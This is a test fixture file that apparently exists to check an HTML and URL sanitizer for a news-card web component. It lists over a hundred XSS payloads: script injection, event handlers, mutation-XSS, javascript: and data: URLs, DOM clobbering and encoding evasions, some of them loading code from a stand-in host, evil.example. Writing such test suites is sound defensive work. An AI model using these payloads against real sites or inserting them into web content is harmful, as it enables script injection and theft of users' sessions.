// Attempts to run code or to send requests, written for this test by kinds: what other corpora lack, or
// write differently. Each calls `pwn()` if it works.

/** Vectors for texts, names and HTML. */
export const markupVectors = {
  script: '<script>pwn()</script>',
  'script with a source': '<script src="//evil.example/x.js"></script>',
  'script in a script': '<scr<script>ipt>pwn()</scr</script>ipt>',
  'script in svg': '<svg><script>pwn()</script></svg>',
  'module script': '<script type=module>pwn()</script>',
  'image with a handler': '<img src=x onerror=pwn()>',
  'image without quotes or spaces': '<img/src=x/onerror=pwn()>',
  'image with an entity': '<img src=x onerror="&#112;wn()">',
  'image with a scheme': '<img src="javascript:pwn()">',
  'image in a picture':
    '<picture><source srcset="//evil.example/a.png"><img src=x onerror=pwn()></picture>',
  'svg with a handler': '<svg onload=pwn()>',
  'svg animation': '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  'svg animated link':
    '<svg><a><animate attributeName=href values=javascript:pwn() /><text y=20>x</text></a></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x"/></svg>',
  'svg foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></foreignObject></svg>',
  'svg style': '<svg><style><img src=x onerror=pwn()></style></svg>',
  'mathml link': '<math href="javascript:pwn()"><mtext>x</mtext></math>',
  'mathml confusion':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  'mutation by template': '<template><img src=x onerror=pwn()></template>',
  'mutation by form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  'mutation by select':
    '<select><option><style></option></select><img src=x onerror=pwn()></style>',
  'mutation by comment': '<!--><img src=x onerror=pwn()>-->',
  'mutation by title': '<svg></p><title><a id="</title><img src=x onerror=pwn()>">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
  'link with a scheme': '<a href="javascript:pwn()">x</a>',
  'link with a tab in the scheme': '<a href="java\tscript:pwn()">x</a>',
  'link with an entity': '<a href="&#106;avascript:pwn()">x</a>',
  'link with control characters': '<a href="\u0001javascript:pwn()">x</a>',
  'link with data': '<a href="data:text/html,<script>pwn()</script>">x</a>',
  'link with vbscript': '<a href="vbscript:pwn()">x</a>',
  'link with a blob': '<a href="blob:null/1">x</a>',
  'link with a ping': '<a href="https://good.example/" ping="https://evil.example/">x</a>',
  xlink: '<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>',
  'area in a map':
    '<map name=m><area href="javascript:pwn()" shape=default></map><img usemap=#m src=x>',
  iframe: '<iframe src="javascript:parent.pwn()"></iframe>',
  'iframe with a document': '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  object: '<object data="javascript:pwn()"></object>',
  embed: '<embed src="javascript:pwn()">',
  applet: '<applet code="x" codebase="//evil.example/"></applet>',
  base: '<base href="//evil.example/">',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  'style element': '<style>@import "//evil.example/x.css"; * { display: none !important }</style>',
  'style attribute': '<p style="background:url(//evil.example/a.png);position:fixed;inset:0">x</p>',
  'style sheet': '<link rel=stylesheet href="//evil.example/x.css">',
  preload: '<link rel=preload as=image href="//evil.example/a.png">',
  form: '<form action="javascript:pwn()"><button>x</button></form>',
  'form action of a button':
    '<button formaction="javascript:pwn()" form=f>x</button><form id=f></form>',
  'input with focus': '<input autofocus onfocus=pwn()>',
  details: '<details open ontoggle=pwn()><summary>x</summary></details>',
  video: '<video src=x onerror=pwn()></video>',
  'video source': '<video><source onerror=pwn() src=x></video>',
  'video poster': '<video poster="//evil.example/a.png"></video>',
  audio: '<audio src=x onerror=pwn()>',
  marquee: '<marquee onstart=pwn()>x</marquee>',
  dialog: '<dialog open onclose=pwn()>x</dialog>',
  'content editable': '<p contenteditable onfocus=pwn() tabindex=1 autofocus>x</p>',
  'popover handler': '<div popover onbeforetoggle=pwn() id=p>x</div>',
  'animation handler': '<p style="animation:x" onanimationstart=pwn()>x</p>',
  'content visibility handler':
    '<p oncontentvisibilityautostatechange=pwn() style="content-visibility:auto">x</p>',
  'clobbered document': '<img name=cookie><form name=querySelector></form><a id=body></a>',
  'clobbered attributes': '<form id=x><input name=attributes><input name=parentNode></form>',
  'slot of the card': '<p slot=title part=title class=card id=title>x</p>',
  'shadow root': '<div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>',
  'custom element':
    '<euromed-news-card src="https://evil.example/a.json" loading=eager></euromed-news-card>',
  'is attribute': '<p is="evil-element" nonce=x>x</p>',
  'Lit marker': '<!--?lit$123$--><?lit$123$>{{x}}${pwn()}',
  'unclosed tag': '<img src=x onerror=pwn() ',
  'null byte': '<img src=x on\u0000error=pwn()><scr\u0000ipt>pwn()</scr\u0000ipt>',
  'wrong encoding': '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
  'escaped twice':
    '&lt;img src=x onerror=pwn()&gt;&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;',
  cdata: '<![CDATA[<img src=x onerror=pwn()>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:pwn()"?>',
  nesting: `${'<div>'.repeat(300)}<img src=x onerror=pwn()>`,

  // Newer handlers of the platform, and rare ones.
  'pointer handlers':
    '<p onpointerenter=pwn() onpointerrawupdate=pwn() ongotpointercapture=pwn() style="position:fixed;inset:0">x</p>',
  'transition handlers':
    '<p ontransitionrun=pwn() ontransitionend=pwn() onwebkittransitionend=pwn()>x</p>',
  'scroll handlers': '<div onscrollend=pwn() onscrollsnapchange=pwn() style=overflow:auto>x</div>',
  'search handler': '<input type=search onsearch=pwn() oninvalid=pwn() required>',
  'slot handler': '<template shadowrootmode=open><slot onslotchange=pwn()></slot></template>',
  'command handler':
    '<button command=show-popover commandfor=c>x</button><div id=c popover oncommand=pwn()>x</div>',
  'found by search': '<p hidden=until-found onbeforematch=pwn()>x</p>',
  'media track':
    '<video controls><track default src=//evil.example/t.vtt oncuechange=pwn()></video>',
  'body handlers': '<body onload=pwn() onpageshow=pwn() onhashchange=pwn() onresize=pwn()>x',
  'frame set': '<frameset onload=pwn() onpageshow=pwn()><frame src="javascript:pwn()"></frameset>',
  'handlers in every case': '<IMG SRC=x ONERROR=pwn() OnLoad=pwn()><iMg sRc=x oNeRrOr=pwn()>',
  'handlers after odd spaces':
    '<img src=x\u000conerror=pwn()\u00a0><img src=x/\nonerror\n=\npwn()>',
  'attributes without end': '<a href="https://good.example/" title="\'><img src=x onerror=pwn()>',
  'back ticks': '<img src=`x` onerror=`pwn()`><img alt="``onerror=pwn()" src=x>',

  // SVG and MathML beyond the script.
  'svg set': '<svg><a><set attributeName=href to=javascript:pwn() /><text y=20>x</text></a></svg>',
  'svg handler by animation':
    '<svg><rect><set attributeName=onmouseover to=pwn() /><animate onend=pwn() onrepeat=pwn() dur=1ms attributeName=x repeatCount=2 /></rect></svg>',
  'svg image': '<svg><image href="//evil.example/a.svg" xlink:href="//evil.example/b.svg" /></svg>',
  'svg filter': '<svg><filter><feImage href="//evil.example/a.svg" /></filter></svg>',
  'svg style import': '<svg><style>@import "//evil.example/x.css";</style></svg>',
  'svg with a link': '<svg><link rel=stylesheet href=//evil.example/x.css /></svg>',
  'svg paint server': '<svg><rect fill="url(//evil.example/a.svg#p)" /></svg>',
  'svg within MathML':
    '<math><annotation-xml encoding="text/html"><svg onload=pwn()></annotation-xml></math>',
  'mathml action': '<math><maction actiontype="statusline#javascript:pwn()">x</maction></math>',
  'mathml by reference':
    '<math xlink:href="javascript:pwn()" xml:base="javascript:"><mtext>x</mtext></math>',
  'xml base': '<svg xml:base="javascript:pwn()//"><a href="#"><text>x</text></a></svg>',
  'foreign names':
    '<svg:script>pwn()</svg:script><x:img xmlns:x="http://www.w3.org/1999/xhtml" src=x onerror=pwn() />',

  // Markup that is parsed to another tree the second time.
  'mutation by namespaces':
    '<svg><desc><table><tr><mglyph><style><a title="</style><img src=x onerror=pwn()>"></style></mglyph></table></desc></svg>',
  'mutation by annotation':
    '<math><annotation-xml encoding="application/xhtml+xml"><style><!--</style><img title="--><img src=x onerror=pwn()>"></annotation-xml></math>',
  'mutation by malignmark':
    '<math><mi><malignmark><style><p title="</style><img src=x onerror=pwn()>"></malignmark></mi></math>',
  'mutation by plain text':
    '<svg><plaintext><p title="</plaintext><img src=x onerror=pwn()>"></svg>',
  'mutation by noembed': '<noembed><p title="</noembed><img src=x onerror=pwn()>"></noembed>',
  'mutation by noframes': '<noframes><p title="</noframes><img src=x onerror=pwn()>"></noframes>',
  'mutation by iframe': '<iframe><p title="</iframe><img src=x onerror=pwn()>"></iframe>',
  'mutation by listing': '<listing><p title="</listing><img src=x onerror=pwn()>"></listing>',
  'mutation by tables':
    '<table><td><table><caption><form><a><form></caption><img src=x onerror=pwn()></table>',
  'mutation by nested links':
    '<a href=https://good.example/><p><a href="javascript:pwn()">x</a></p></a>',
  'mutation by a late comment': '<svg><p><style><!--</style><img src=x onerror=pwn()>--></style>',
  'mutation by cdata':
    '<svg><![CDATA[</svg><img src=x onerror=pwn()>]]></svg><math><![CDATA[<]]>img src=x onerror=pwn()></math>',
  'mutation by a bang': '<!--!><img src=x onerror=pwn()>--!><img src=x onerror=pwn()>',
  'mutation by processing': '<?a <img src=x onerror=pwn()> ?><!x <img src=x onerror=pwn()>>',
  'mutation by entities':
    '<p title="&lt;/p&gt;&lt;img src=x onerror=pwn()&gt;">&lt;/p&gt;&lt;img src=x onerror=pwn()&gt;</p>',
  'deep mutation': `${'<font>'.repeat(520)}<svg><desc><style><p id="</style><img src=x onerror=pwn()>">`,
  'deep forms':
    '<form>'.repeat(260) + '<table><tr><form><input name=parentNode><img src=x onerror=pwn()>',

  // Names with a meaning in JavaScript and the DOM.
  'clobbered nodes':
    '<form><input name=nodeName><input name=childNodes><input name=removeChild><input name=textContent></form>',
  'clobbered globals':
    '<a id=DOMPurify href="data:x,1"></a><a id=trustedTypes><a id=trustedTypes name=createPolicy></a>',
  'clobbered with a document':
    '<iframe name=location srcdoc="<a id=href href=javascript:pwn()></a>"></iframe><object id=customElements></object>',
  'prototype names':
    '<p __proto__=x constructor=x>x</p><input name=__proto__><img name=constructor src=x>',

  // Elements that send requests or navigate.
  'image candidates':
    '<img srcset="//evil.example/a.png 1x, javascript:pwn() 2x" src=https://good.example/a.png sizes=auto>',
  'image attributes':
    '<img src=https://good.example/a.png lowsrc=//evil.example/a dynsrc=//evil.example/b longdesc=javascript:pwn() usemap=#m attributionsrc=//evil.example/c crossorigin=use-credentials>',
  'table background':
    '<table background=//evil.example/a.png><td background="javascript:pwn()">x</td></table>',
  'body background': '<body background=//evil.example/a.png>x</body>',
  'quotes and edits':
    '<blockquote cite="javascript:pwn()">x</blockquote><ins cite="//evil.example/">x</ins><q cite="data:,x">x</q>',
  'links of all kinds':
    '<link rel=prefetch href=//evil.example/1><link rel=dns-prefetch href=//evil.example/><link rel=modulepreload href=//evil.example/2><link rel=import href=//evil.example/3><link rel=manifest href=//evil.example/4><link rel=icon href=//evil.example/5>',
  'speculation rules':
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
  'import map': '<script type=importmap>{"imports":{"lit":"//evil.example/x.js"}}</script>',
  'policy in the page':
    '<meta http-equiv=Content-Security-Policy content="script-src \'none\'"><meta name=referrer content=unsafe-url>',
  'cookie in the page':
    '<meta http-equiv=set-cookie content="a=b"><meta http-equiv=refresh content="0;url=//evil.example/">',
  'frame in a sandbox':
    '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" src="data:text/html,<script>top.pwn()</script>"></iframe>',
  'frames of other names':
    '<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe><webview src=//evil.example/></webview>',
  'object with parameters':
    '<object type=text/html data=//evil.example/><param name=src value=//evil.example/x.swf><img src=x onerror=pwn()></object>',
  'audio sources':
    '<audio autoplay><source src=//evil.example/a.ogg onerror=pwn()></audio><bgsound src=//evil.example/a.mid>',
  'custom cursor':
    '<p style="cursor:url(//evil.example/c.cur),auto;--x:url(//evil.example/d)">x</p>',
  'link opened elsewhere':
    '<a href=https://good.example/ target=_self rel=opener download=x.html attributionsrc=//evil.example/a referrerpolicy=unsafe-url>x</a>',
  'the card as a div':
    '<div class=euromed-news-card data-src=https://evil.example/a.json data-loading=eager><a href="javascript:pwn()">x</a></div>',
  'another element':
    '<a is=euromed-news-card src=//evil.example/a.json href=x>x</a><x-evil onfoo=pwn() onclick=pwn()>x</x-evil>',
  'old elements':
    '<xml src=//evil.example/x.xml></xml><layer src=//evil.example/></layer><ilayer src=//evil.example/></ilayer><isindex type=image src=//evil.example/ formaction=javascript:pwn()>',
  'keys and focus':
    '<a href=https://good.example/ accesskey=x tabindex=1 autofocus onfocus=pwn() onfocusin=pwn()>x</a>',
  'editable with a drop':
    '<div contenteditable draggable=true ondragstart=pwn() onpaste=pwn() onbeforeinput=pwn()>x</div>',

  // Characters.
  'null in a name': '<img\u0000 src=x onerror=pwn()><a href="java\u0000script:pwn()">x</a>',
  'wide and odd letters':
    '<ſcript>pwn()</ſcript><ＳＣＲＩＰＴ>pwn()</ＳＣＲＩＰＴ><ımg src=x onerror=pwn()>',
  'other spaces': '<img\u2028src=x\u2029onerror=pwn()><img\u000bsrc=x\u000bonerror=pwn()>',
  'turned around': '\u202e<img src=x onerror=pwn()>\u202c\u2066<script>pwn()</script>\u2069',
  'half a character': '\ud800<img src=x onerror=pwn()>\udfff',
  'byte order marks': '\ufeff<script\ufeff>pwn()</script\ufeff>',
  'templates of frameworks':
    '{{constructor.constructor("pwn()")()}}<%= pwn() %>${pwn()}#{pwn()}{% raw %}',
  'replacement patterns': "$&$`$'$1$<title>$$<img src=x onerror=pwn()>",
  'end of JSON': '"}],"bodyHtml":"<img src=x onerror=pwn()>","x":["\\u003cscript>pwn()</script>',
  'many links': '<a href="javascript:pwn()">x</a>'.repeat(400),
  'many attributes': `<p ${Array.from({ length: 2000 }, (_, i) => `on${i}=pwn()`).join(' ')}>x</p>`,
};

/** Vectors for addresses. */
export const addressVectors = {
  javascript: 'javascript:pwn()',
  'upper case': 'JaVaScRiPt:pwn()',
  'leading control character': '\u0001javascript:pwn()',
  'tab within': 'java\tscript:pwn()',
  'line break within': 'java\nscript:pwn()',
  data: 'data:text/html,<script>pwn()</script>',
  'data image': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>',
  vbscript: 'vbscript:pwn()',
  blob: 'blob:https://evil.example/1',
  file: 'file:///etc/passwd',
  'view source': 'view-source:https://good.example/',
  'word-processor quotes': '”javascript:pwn()”',
  'attribute break': 'https://good.example/" onerror="pwn()',
  'markup in a path': 'https://good.example/<img src=x onerror=pwn()>',
  'null within': 'java\u0000script:pwn()',
  'carriage return within': 'java\r\nscript\r:pwn()',
  'spaces of all kinds before': '\u2028\u2029\u00a0\ufeff\u3000javascript:pwn()',
  'entity in the scheme': '&#106;avascript&colon;pwn()',
  'percent in the scheme': 'javascript%3Apwn()',
  'scheme twice': 'javascript:javascript:pwn()',
  'scheme after a good one': 'https:javascript:pwn()',
  'javascript with an address in it': 'javascript://good.example/%0Apwn()',
  'view source of a script': 'view-source:javascript:pwn()',
  'feed of a script': 'feed:javascript:pwn()',
  jar: 'jar:https://evil.example/x.zip!/x.html',
  'data without a type': 'data:,<script>pwn()</script>',
  'data in base 64': 'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'data of a script': 'data:text/javascript,pwn()',
  'about page': 'about:srcdoc',
  'file system': 'filesystem:https://evil.example/temporary/x.html',
  'extension page': 'chrome-extension://x/y.html',
  'program call': 'ms-word:ofe|u|https://evil.example/x.docm',
  'intent of a phone': 'intent://evil.example#Intent;scheme=https;end',
  'mail with a handler': 'mailto:a@b.example?subject=<img src=x onerror=pwn()>',
  telephone: 'tel:+33123456789;x=<script>pwn()</script>',
  'web socket': 'wss://evil.example/',
  ftp: 'ftp://evil.example/',
  'two words': 'https://good.example/a.png 1x, javascript:pwn() 2x',
  candidates: 'https://good.example/a.png,javascript:pwn()',
  'name and password': 'https://user:pass@good.example/',
  'other scheme’s slashes': '\\\\evil.example\\x',
  'without a scheme': '//evil.example/x',
  'right to left': 'https://good.example/\u202egpj.exe',
  'letters of another script': 'https://gооd.example/',
  'bad port': 'https://good.example:99999/',
  'broken host': 'https://[good.example/',
  'half a character': 'https://good.example/\ud800',
  'very long': `https://good.example/?${'x'.repeat(9000)}`,
  'script in a fragment': 'https://good.example/#<script>pwn()</script>',
  'template of an address': 'https://good.example/{code}/{lang}/${pwn()}',
  nothing: ' ',
};
